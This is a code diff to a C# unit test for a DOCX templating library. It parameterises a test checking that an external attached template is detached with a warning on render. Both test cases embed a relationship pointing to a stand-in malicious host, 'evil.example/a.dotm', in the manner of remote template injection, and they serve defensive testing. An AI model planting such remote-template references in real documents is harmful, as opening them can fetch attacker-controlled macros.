@@ -8,12 +8,13 @@ public class BaggageTests
 {
     const string R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
 
-    [Test]
-    public void AnAttachedTemplateIsDetachedWithAWarning()
+    [TestCase("<w:attachedTemplate r:id=\"rId1\"/>", "<Relationship Id=\"rId1\" Type=\"TYPE\" Target=\"http://evil.example/a.dotm\" TargetMode=\"External\"/>")]
+    [TestCase("<w:attachedTemplate r:id='rId1'></w:attachedTemplate>", "<Relationship Type='TYPE' TargetMode='External' Target='http://evil.example/a.dotm' Id='rId1'></Relationship>")]
+    public void AnAttachedTemplateIsDetachedWithAWarning(string element, string relationship)
     {
         var docx = PackageParts.WithPart(DocxText.ToDocx("{{ x }}"), "word/settings.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml", R + "/settings", "rIdS",
-            $"<w:settings xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\" xmlns:r=\"{R}\"><w:zoom w:percent=\"100\"/><w:attachedTemplate r:id=\"rId1\"/><w:defaultTabStop w:val=\"420\"/></w:settings>");
-        docx = PackageParts.With(docx, "word/_rels/settings.xml.rels", _ => $"<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"rId1\" Type=\"{R}/attachedTemplate\" Target=\"http://evil.example/a.dotm\" TargetMode=\"External\"/></Relationships>");
+            $"<w:settings xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\" xmlns:r=\"{R}\"><w:zoom w:percent=\"100\"/>{element}<w:defaultTabStop w:val=\"420\"/></w:settings>");
+        docx = PackageParts.With(docx, "word/_rels/settings.xml.rels", _ => $"<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">{relationship.Replace("TYPE", R + "/attachedTemplate", StringComparison.Ordinal)}</Relationships>");
         var template = DocxTemplate.Load(docx);
         var result = Rendered.Bytes(template, """{ "x": 1 }""");
         Assert.That(DocxText.FromDocx(result), Is.EqualTo("1\n"));
